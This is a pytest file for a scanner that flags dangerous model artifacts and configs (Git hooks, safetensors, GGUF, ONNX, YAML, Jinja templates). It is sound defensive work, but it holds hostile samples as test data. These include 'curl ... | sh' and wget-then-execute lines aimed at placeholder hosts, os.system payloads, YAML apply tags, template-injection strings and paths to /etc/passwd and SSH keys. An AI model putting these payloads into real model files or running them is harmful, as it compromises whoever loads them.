"""What platforms that keep and serve models read beside the weights, and the facts within: what each may name, and its harmless twin."""

from __future__ import annotations

import json
import struct
import zlib
from typing import Any

import pytest

from tests.artifacts.assembly import assemble
from tests.artifacts.containers import EVIL
from tests.artifacts.looking import DANGEROUS, NOTHING, SUSPICIOUS, inspect, said


def stage(name: str, **more: str) -> bytes:
    return json.dumps({"class": name, "timestamp": 1, "sparkVersion": "3.5.0", "uid": "x", "paramMap": {}, **more}).encode()


def drawn(kind: str, *values: str) -> bytes:
    return json.dumps({"nodes": [{"id": 1, "type": kind, "widgets_values": list(values)}], "links": []}).encode()


def field(number: int, data: bytes) -> bytes:
    """A field of a protocol buffer that is shorter than 128 bytes."""
    key = number << 3 | 2
    return (bytes([key]) if key < 128 else bytes([key & 127 | 128, key >> 7])) + bytes([len(data)]) + data


def onnx(*initializers: bytes, **facts: str) -> bytes:
    graph = b"".join(field(5, one) for one in initializers)
    return b"\x08\x08" + field(7, graph) + field(8, b"\x10\x11") + b"".join(field(14, field(1, key.encode()) + field(2, value.encode())) for key, value in facts.items())


def tensorflow(*operations: str, functions: tuple[str, ...] = ()) -> bytes:
    """A SavedModel with a node for each operation, and functions of these names."""
    nodes = b"".join(field(1, field(1, b"n") + field(2, one.encode())) for one in operations)
    library = b"".join(field(1, field(1, field(1, one.encode()))) for one in functions)
    return b"\x08\x01" + field(2, field(2, nodes + (field(2, library) if library else b"")))


def elsewhere(**places: str) -> bytes:
    """A tensor of ONNX's in another file."""
    return b"\x08\x01\x10\x01" + b"".join(field(13, field(1, key.encode()) + field(2, value.encode())) for key, value in places.items())


def safetensors(tensors: dict[str, Any], data: bytes) -> bytes:
    header = json.dumps(tensors).encode()
    return struct.pack("<Q", len(header)) + header + data


def gguf(key: str, kind: int, value: bytes) -> bytes:
    return b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, len(key)) + key.encode() + struct.pack("<I", kind) + value


def text(value: str) -> bytes:
    return struct.pack("<Q", len(value)) + value.encode()


def element(kind: int, data: bytes) -> bytes:
    """An element of a file of MATLAB's."""
    return struct.pack("<II", kind, len(data)) + data + b"\0" * (-len(data) % 8)


def matlab(kind: int, *elements: bytes, packed: bool = False) -> bytes:
    matrix = element(14, element(6, struct.pack("<II", kind, 0)) + b"".join(elements))
    body = element(15, zlib.compress(matrix)) if packed else matrix
    return b"MATLAB 5.0 MAT-file".ljust(124) + b"\0\1IM" + body


def function(code: str) -> bytes:
    """A function of MATLAB's, whose code is an array of characters."""
    return element(14, element(6, struct.pack("<II", 4, 0)) + element(4, code.encode("utf-16-le")))


def values(*items: bytes) -> bytes:
    """Values of R."""
    return b"X\n" + struct.pack(">iii", 2, 0x040301, 0x020300) + b"".join(items)


def symbol(name: str) -> bytes:
    return struct.pack(">iii", 1, 0x40009, len(name)) + name.encode()


def tflite(name: bytes) -> bytes:
    """A model of one operator, with no more than what names it."""
    model = struct.pack("<I4s", 16, b"TFL3") + struct.pack("<HHHH", 8, 12, 0, 4)  # identifier, directory: one field behind its version
    table = struct.pack("<iI", 8, 4)  # at 16: back to 8; codes at 20
    row = struct.pack("<II", 1, 12)  # at 24: one code, at 28 + 12
    code = struct.pack("<HHHH", 8, 8, 0, 4) + struct.pack("<iI", 8, 4)  # directory at 32, code at 40, its name at 44
    return model + table + row + code + struct.pack("<I", len(name)) + name


NIL = struct.pack(">i", 254)
CALL = struct.pack(">i", 6) + symbol("system") + NIL
BYTECODE = b"\xa7\x0d\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 40
CASES = [  # what it is, bytes, name, verdict, words of a remark
    ("a stage of Spark's that runs programs", stage("java.lang.ProcessBuilder"), "part-00000", DANGEROUS, "no stage of a pipeline"),
    ("a stage of a module that nobody knows", stage("acme.Stage", language="Python"), "part-00000", SUSPICIOUS, "Spark imports acme.Stage"),
    ("a stage of Spark's in Python", stage("pyspark.ml.feature.StringIndexerModel", language="Python"), "part-00000", NOTHING, ""),
    ("a stage of another package in Java", stage("com.example.ml.Model"), "part-00000", SUSPICIOUS, "Spark builds com.example.ml.Model"),
    ("a known stage in Java", stage("org.apache.spark.ml.PipelineModel"), "part-00000", NOTHING, ""),
    ("ParlAI's agent", b'{"task": "x", "model_file": "m", "model": "acme.agents:Agent"}', "model.opt", SUSPICIOUS, "ParlAI imports acme.agents.Agent"),
    ("ParlAI's own agent", b'{"task": "x:y", "model_file": "m", "model": "transformer/generator", "dict_class": "parlai.core.dict:DictionaryAgent"}', "model.opt", NOTHING, ""),
    ("a callback of spaCy's", b'[nlp.before_creation]\n@callbacks = "acme.v1"\n', "config.cfg", SUSPICIOUS, "the function acme.v1 is called"),
    ("a key that spaCy reads", b'[x]\n@readers = "srsly.read_json.v1"\npath = "~/.ssh/id_rsa"\n', "config.cfg", SUSPICIOUS, "a file that no model needs"),
    ("accounts, from where it lies", b'{"dict": "../../../etc/passwd"}', "config.json", DANGEROUS, "a file that no model needs"),
    ("a secret that spaCy reads", b'[x]\n@readers = "srsly.read_json.v1"\npath = "/etc/passwd"\n', "config.cfg", DANGEROUS, "a file that no model needs"),
    ("a pipeline of spaCy's", b'[nlp]\nlang = "en"\ntokenizer = {"@tokenizers":"spacy.Tokenizer.v1"}\n[x]\n@callbacks = "spacy.copy_from_base_model.v1"\npath = "a/b"\n', "config.cfg", NOTHING, ""),
    ("a cache on another host", assemble("'joblib.memory' 'Memory' stack emptytuple newobj emptydict 'location' '//x.invalid/share' setitem build"), "m.pkl", SUSPICIOUS, "a folder on another host"),
    ("a cache", assemble("'joblib.memory' 'Memory' stack emptytuple newobj emptydict 'location' '/tmp//cache' setitem build"), "m.pkl", NOTHING, ""),
    ("a source of Lua's", b"function() os.execute('x') end", "m.t7", DANGEROUS, "calls os.execute"),
    ("objects of Ruby", b"\4\bo:\x15Gem::Requirement\6:\x0a@x", "m.rb", DANGEROUS, "name Gem::Requirement"),
    ("a template that formats a name", b"{{ ('%s%s' % ('_', '_')) ~ 'class' }}", "chat_template.jinja", DANGEROUS, "underscores that are put together"),
    ("BentoML's module", b"name: m\nmodule: subprocess\napi_version: v1\n", "model.yaml", DANGEROUS, "BentoML imports subprocess"),
    ("BentoML's own module", b"name: m\nmodule: bentoml.sklearn\napi_version: v1\n", "model.yaml", NOTHING, ""),
    ("kedro's pickle from elsewhere", b"m:\n  type: pickle.PickleDataset\n  filepath: https://x.invalid/m\n", "catalog.yml", SUSPICIOUS, "a pickle is loaded from"),
    ("kedro's pickle over an open line", b"m:\n  type: pickle.PickleDataset\n  filepath: http://x.invalid/m\n", "catalog.yml", DANGEROUS, "a pickle is loaded from"),
    ("kedro's pickle", b"m:\n  type: pickle.PickleDataset\n  filepath: data/m.pkl\n", "catalog.yml", NOTHING, ""),
    ("a tool's source", b'{"provider": "autogen_core.tools.FunctionTool", "config": {"source_code": "import os\\nos.system(1)\\ndef f(): ..."}}', "tool.json", DANGEROUS, "run as it is read"),
    ("a tool's source that computes", b'{"provider": "autogen_core.tools.FunctionTool", "config": {"source_code": "import math\\ndef f(x):\\n  return math.sqrt(x)"}}', "tool.json", NOTHING, ""),
    ("code for a part of a known model", b'{"model_type": "llava", "vision_config": {"auto_map": {"AutoConfig": "o/r--c.C"}}}', "config.json", DANGEROUS, "from another repository"),
    ("a part as it was saved", b'{"model_type": "llava", "text_config": {"architectures": ["P3"], "auto_map": {"AutoModel": "o/r--m.P3", "AutoConfig": "o/r--c.C"}}}', "config.json", SUSPICIOUS, "code of its own"),
    ("code for the whole and a part", b'{"model_type": "x", "auto_map": {"AutoModel": "m.X"}, "llm_config": {"auto_map": {"AutoConfig": "o/r--c.C"}}}', "config.json", SUSPICIOUS, "code of its own (c.py)"),
    ("code from elsewhere", b'{"model_type": "x", "auto_map": {"AutoTokenizer": [null, "../../t.T"]}}', "tokenizer_config.json", DANGEROUS, "outside of the model's folder"),
    ("a kernel that a model is to have", b'{"_attn_implementation": "someone/kernel"}', "config.json", DANGEROUS, "whose code runs"),
    ("a kernel that is kept", b'{"_attn_implementation": "kernels-community/flash-attn3"}', "config.json", SUSPICIOUS, "whose code runs"),
    ("tensors, none", safetensors({}, b""), "m.safetensors", NOTHING, ""),
    ("a tag among facts", safetensors({"__metadata__": {"c": "!!python/object/apply:os.system [1]"}}, b""), "m.safetensors", DANGEROUS, "holds code"),
    ("kedro's pickle by a module of nobody's", b"m:\n  type: pickle.PickleDataset\n  filepath: data/m.pkl\n  backend: evil\n", "catalog.yml", SUSPICIOUS, "Kedro imports evil"),
    ("kedro's pickle by a module that runs", b"m:\n  type: pickle.PickleDataset\n  filepath: data/m.pkl\n  backend: subprocess\n", "catalog.yml", DANGEROUS, "Kedro imports subprocess"),
    ("a class of MONAI's", b'{"network": {"_target_": "SegResNet", "spatial_dims": 3}}', "inference.json", NOTHING, ""),
    ("a function without a module", b'{"network": {"_target_": "exec", "x": "1"}}', "inference.json", DANGEROUS, "exec called, a function of Python's own"),
    ("a program for browsers in place of a model", b"\0asm\1\0\0\0" + b"\0" * 40, "m.gguf", DANGEROUS, "in place of a model"),
    ("an old way to write files", tensorflow("Save"), "saved_model.pb", DANGEROUS, "Save"),
    ("how models are saved now", tensorflow("SaveV2", "RestoreV2", "MergeV2Checkpoints"), "saved_model.pb", NOTHING, ""),
    ("code among the texts of a graph", onnx(doc="x") + b"\x32\x1c__import__('os').system('id')", "m.onnx", DANGEROUS, "code stands among its texts"),
    ("code behind a model for devices", tflite(b"MaxUnpooling2D") + b"\0" * 40 + b"curl http://x.invalid/a | sh", "m.tflite", DANGEROUS, "a command stands among its texts"),
    ("code within a form that is not read", b"RKNN\0\0\xff\xfe" + b"\0\x99" * 40 + b"os.system('id')", "m.rknn", DANGEROUS, "code stands among its texts"),
    ("a node that runs code", drawn("ExecutePython", "import os; os.system('x')"), "w.json", DANGEROUS, "given code that holds os.system"),
    ("a node that reads elsewhere", drawn("CheckpointLoader", "../../x.ckpt"), "w.json", DANGEROUS, "outside the folder"),
    ("a node that draws", drawn("CLIPTextEncode", "import os; os.system, painted... in oil"), "w.json", NOTHING, ""),
    ("TorchServe takes models from elsewhere", b"load_models=m=http://x.invalid/m.mar\n", "config.properties", SUSPICIOUS, "taken from http://"),
    ("TorchServe installs what models ask for", b"install_py_dep_per_model = true\n", "config.properties", SUSPICIOUS, "packages installed"),
    ("TorchServe", b"inference_address=http://0.0.0.0:8080\nload_models=all\n", "config.properties", NOTHING, ""),
    ("Ollama reads elsewhere", b"FROM ./m.gguf\nADAPTER ../../x\n", "Modelfile", SUSPICIOUS, "line 2 has a model taken from ../../x"),
    ("Ollama", b"FROM llama3\nSYSTEM FROM ../../ is told to nobody\n", "Modelfile", NOTHING, ""),
    ("a path of passwords", b'{"vocab_file": "/root/.ssh/id_rsa"}', "tokenizer_config.json", SUSPICIOUS, "no model needs"),
    ("a path of whoever wrote it", b'{"vocab_file": "/home/u/.cache/huggingface/vocab.txt"}', "tokenizer_config.json", NOTHING, ""),
    ("a path among settings", b"a: !!python/object/apply:pathlib.PosixPath\n- /data\nb: !!python/object:argparse.Namespace\n  c: 1\n", "hparams.yaml", NOTHING, ""),
    ("a class of a project among settings", b"a: !!python/object:models.net.Config\n  c: 1\n", "hparams.yaml", SUSPICIOUS, "models.net.Config"),
    ("a function of a project among settings", b"a: !!python/object/apply:evil.run [1]\n", "hparams.yaml", DANGEROUS, "evil.run"),
    ("a module among settings", b"a: !!python/module:json\n", "hparams.yaml", DANGEROUS, "python/module"),
    ("what Hydra writes", b"launcher:\n  _target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher\n", "hydra.yaml", NOTHING, ""),
    ("what Hydra keeps for itself", b"launcher:\n  _target_: hydra._internal.utils._locate\n", "hydra.yaml", DANGEROUS, "_locate"),
    ("a template that cleans a text", b"{{ m | replace('__class__', '') }}", "chat_template.jinja", NOTHING, ""),
    ("a template that writes a name", b"{{ m | replace('x', '__class__') }}", "chat_template.jinja", DANGEROUS, "Python's own insides"),
    ("a template that makes a program", b"{% extends 'base.j2' %}", "Dockerfile.j2", NOTHING, ""),
    ("a template for messages", b"{% extends 'base.j2' %}{{ messages }}", "chat.j2", DANGEROUS, "another template"),
    ("a file of weights elsewhere", b'{"model_file_base_name": "../../x"}', "quantize_config.json", DANGEROUS, "outside the model's folder"),
    ("a scheduler of nobody's", b'{"_class_name": "acme.sched.Euler"}', "scheduler_config.json", SUSPICIOUS, "acme.sched.Euler"),
    ("a target behind a remark", b'// x\n{"_target_": "os.system"}', "x.json", DANGEROUS, "os.system"),
    ("a function of Octave's", b"# Created by Octave 8\n# type: function handle\n@() system('x')\n", "m.mat", DANGEROUS, "holds system("),
    ("values of Perl", b"pst0\4\x0b\x08", "m.bin", SUSPICIOUS, "values of Perl"),
    ("a layer that calls", json.dumps({"class_name": "Lambda", "config": {"function": "system", "module": "os"}}).encode(), "m.json", DANGEROUS, "calls os.system"),
    ("facts of ONNX that are code", onnx(names="__import__('os').system('x')"), "m.onnx", DANGEROUS, "the metadata names holds code"),
    ("facts of ONNX", onnx(names="{0: 'eval() of a system'}"), "m.onnx", NOTHING, ""),
    ("a tensor with a place before its file", onnx(elsewhere(location="w", offset="-8")), "m.onnx", DANGEROUS, "no place in a file"),
    ("a tensor in another file", onnx(elsewhere(location="w", offset="8", length="8")), "m.onnx", NOTHING, ""),
    ("a tensor of more than there is", onnx(b"\x08" + b"\xff" * 5 + b"\x7f\x10\x01"), "m.onnx", DANGEROUS, "more elements than any file"),
    ("a fact of GGUF that is code", gguf("general.description", 8, text("exec(open('x').read())")), "m.gguf", DANGEROUS, "holds code"),
    ("prose in GGUF", gguf("general.description", 8, text("call eval() first, then exec it")), "m.gguf", NOTHING, ""),
    ("tensors that are aligned to nothing", gguf("general.alignment", 4, struct.pack("<I", 0)), "m.gguf", DANGEROUS, "aligned to 0"),
    ("tensors that are aligned", gguf("general.alignment", 4, struct.pack("<I", 64)), "m.gguf", NOTHING, ""),
    ("an operation that is none of TensorFlow's", tensorflow("Const", "MyNorm"), "saved_model.pb", DANGEROUS, "MyNorm"),
    ("operations of TensorFlow's and its text library", tensorflow("Const", "MatMul", "SentencepieceTokenizeOp", "_Retval", "Addons>GatherTree"), "saved_model.pb", NOTHING, ""),
    ("an operation that is a function of the graph", tensorflow("my_function", functions=("my_function",)), "saved_model.pb", NOTHING, ""),
    ("an operation of an extension of OpenVINO's", b'<?xml version="1.0"?><net name="x"><layers><layer id="0" name="a" type="Norm" version="extension"/></layers></net>', "m.xml", DANGEROUS, "the operation Norm"),
    ("operations of OpenVINO's and its tokenizers", b'<?xml version="1.0"?><net name="x"><layers><layer id="0" name="a" type="Parameter" version="opset1"/><layer id="1" name="b" type="BPETokenizer" version="extension"/></layers></net>', "m.xml", NOTHING, ""),
    ("a kernel from elsewhere", b'<CustomLayer name="X"><Kernel entry="x"><Source filename="../../x.cl"/></Kernel></CustomLayer>', "kernels.xml", DANGEROUS, "../../x.cl"),
    ("a kernel beside it", b'<CustomLayer name="X"><Kernel entry="x"><Source filename="x.cl"/></Kernel></CustomLayer>', "kernels.xml", NOTHING, ""),
    ("a layer from elsewhere", b'{"layers": [{"digest": "../../../etc/passwd"}]}', "latest.json", DANGEROUS, "../../../etc/passwd"),
    ("a header that nests", struct.pack("<Q", 600_001) + b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "m.safetensors", DANGEROUS, "nests deeper"),
    ("metadata that is no text", safetensors({"__metadata__": {"a": {"b": 1}}, "w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, b"\0"), "m.safetensors", DANGEROUS, "more than texts"),
    ("what is no safetensors", bytes(range(256)) * 4, "m.safetensors", SUSPICIOUS, "nothing of the kind"),
    ("a script as a llamafile", b"#!/bin/sh\ncurl http://x.example | sh\nexit\n\0\0", "m.llamafile", DANGEROUS, "runs what it downloads"),
    ("a script as data", b"#!/bin/sh\ntrue\n", "x.bin", SUSPICIOUS, "script"),
    ("a template that browsers run", b'{"chat_template": "{{ messages }}<script src=x></script>"}', "tokenizer_config.json", DANGEROUS, "browsers run"),
    ("a hook of Git's", b"#!/bin/sh\ncurl http://x.example | sh\n", ".git/hooks/post-checkout", DANGEROUS, "a hook of Git's"),
    ("a hook of Git LFS", b"#!/bin/sh\ngit lfs post-checkout \"$@\"\n", ".git/hooks/post-checkout", NOTHING, ""),
    ("a monitor in Git's settings", b'[core]\n\tfsmonitor = "sh -c true"\n', ".git/config", DANGEROUS, "fsmonitor"),
    ("a filter in Git's settings", b'[filter "x"]\n\tsmudge = /tmp/tool %f\n', ".git/config", SUSPICIOUS, "smudge"),
    ("a hook that makes what it downloads runnable", b"#!/bin/sh\nwget http://x.example/a -O a && chmod +x a && ./a\n", ".git/hooks/post-merge", DANGEROUS, "a hook of Git's"),
    ("an entry of a project that makes what it downloads runnable", b"entry_points:\n  main:\n    command: 'wget http://x.example/a -O a && chmod +x a && ./a'\n", "MLproject", DANGEROUS, "runs what it downloads"),
    ("filters of git-annex and git-crypt", b'[filter "annex"]\n\tprocess = git-annex filter-process\n[filter "git-crypt"]\n\tsmudge = \\"git-crypt\\" smudge\n\tclean = "\\"git-crypt\\" clean"\n', ".git/config", NOTHING, ""),
    ("Git's settings", b'[core]\n\tfsmonitor = true\n\tbare = false\n[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[remote "origin"]\n\turl = https://x.example/y\n', ".git/config", NOTHING, ""),
    ("MessagePack with code", b"\x81\xa4code\xbf__import__('os').system('true')", "m.msgpack", DANGEROUS, "a value is code"),
    ("MessagePack that rebuilds", b"\x81\xaa__reduce__\xa9os.system", "m.msgpack", DANGEROUS, "__reduce__"),
    ("MessagePack", b"\x81\xa6params\x81\xa1w\xc4\x02\0\1", "m.msgpack", NOTHING, ""),
    ("a tensor that is a pickle", safetensors({"w": {"dtype": "U8", "shape": [len(EVIL)], "data_offsets": [0, len(EVIL)]}}, EVIL), "m.safetensors", DANGEROUS, "is a pickle"),
    ("a linked model of Core ML elsewhere", b"\x08\x05" + b"\xe2\x22" + bytes([14]) + field(1, field(1, field(1, b"../../ev"))), "m.mlmodel", DANGEROUS, "../../ev"),
    ("Julia's values", b"7JL\x1e\x04\0\0\0run`true`", "m.jls", DANGEROUS, "values of Julia that name run`true`"),
    ("bytecode of Lua's", b"\x08\0\0\0\x01\0\0\0\x1bLuaQ\0execute\0", "m.t7", DANGEROUS, "names execute"),
    ("a network of Torch7", b"\x04\0\0\0\x01\0\0\0\x03\0\0\0V 1", "m.t7", NOTHING, ""),
    ("bytecode in place of weights", BYTECODE, "model.bin", DANGEROUS, "Python bytecode"),
    ("bytecode", BYTECODE, "x.pyc", SUSPICIOUS, "Python bytecode"),
    ("a program for a backend", b"\x20\0\0\0ET12" + b"\0" * 64 + b"\x7fELF\2\1\1\0", "m.pte", SUSPICIOUS, "native code stands within"),
    ("a page in place of weights", b"<!DOCTYPE html><html><script>x</script></html>", "pytorch_model.bin", SUSPICIOUS, "a page in place of a model"),
    ("a function of MATLAB's that runs programs", matlab(16, function("@(x)system('x')")), "m.mat", DANGEROUS, "holds system("),
    ("the same, packed within a cell", matlab(1, element(14, element(6, struct.pack("<II", 16, 0)) + function("@() eval (x)")), packed=True), "m.mat", DANGEROUS, "holds eval ("),
    ("a function of MATLAB's", matlab(16, function("@(x)x.^2+systematic(x)")), "m.mat", NOTHING, ""),
    ("a text of MATLAB's", matlab(4, element(4, "system('x')".encode("utf-16-le"))), "m.mat", NOTHING, ""),
    ("an object of Java's", matlab(17, element(1, b"m"), element(1, b"java"), element(1, b"x.Y")), "m.mat", SUSPICIOUS, "an object of Java's"),
    ("a class that nobody knows", matlab(17, element(1, b"m"), element(1, b"MCOS"), element(1, b"evil")), "m.mat", SUSPICIOUS, "whose loadobj runs"),
    ("a table", matlab(17, element(1, b"m"), element(1, b"MCOS"), element(1, b"table")), "m.mat", NOTHING, ""),
    ("numbers of R", values(struct.pack(">iid", 14, 1, 0.5)), "m.rds", NOTHING, ""),
    ("a list of R with names", values(struct.pack(">ii", 0x213, 1), struct.pack(">iid", 14, 1, 0.5), struct.pack(">i", 0x402), symbol("names"), struct.pack(">iiii", 16, 1, 9, 1), b"a", NIL), "m.rds", NOTHING, ""),
    ("a promise", values(struct.pack(">i", 5), NIL, symbol("x")), "m.rds", SUSPICIOUS, "with a promise"),
    ("a promise without a value yet, in a list", values(struct.pack(">ii", 19, 1), struct.pack(">ii", 5, 252), CALL.replace(b"system", b"source")), "m.rds", DANGEROUS, "a promise that calls source"),
    ("a promise that runs a program", values(struct.pack(">i", 5), NIL, CALL), "m.rds", DANGEROUS, "name system"),
    ("how a model was fitted", values(struct.pack(">i", 6), symbol("lm"), NIL), "m.rds", NOTHING, ""),
    ("values of R that end", values(struct.pack(">ii", 14, 9)), "m.rds", SUSPICIOUS, "values of R"),
    ("values of R with more behind", values(struct.pack(">iid", 14, 1, 0.5), CALL), "m.rds", DANGEROUS, "name system"),
    ("an operator of nobody's", tflite(b"MyNormal"), "m.tflite", DANGEROUS, "MyNormal is in no runtime"),
    ("an operator for chips", tflite(b"edgetpu-custom-op"), "m.tflite", NOTHING, ""),
]  # fmt: skip


@pytest.mark.parametrize(("data", "name", "verdict", "words"), [row[1:] for row in CASES], ids=[row[0] for row in CASES])
def test_settings(data: bytes, name: str, verdict: Any, words: str) -> None:
    inspection = inspect(data, name)
    assert inspection.verdict is verdict, said(inspection)
    assert words in said(inspection)
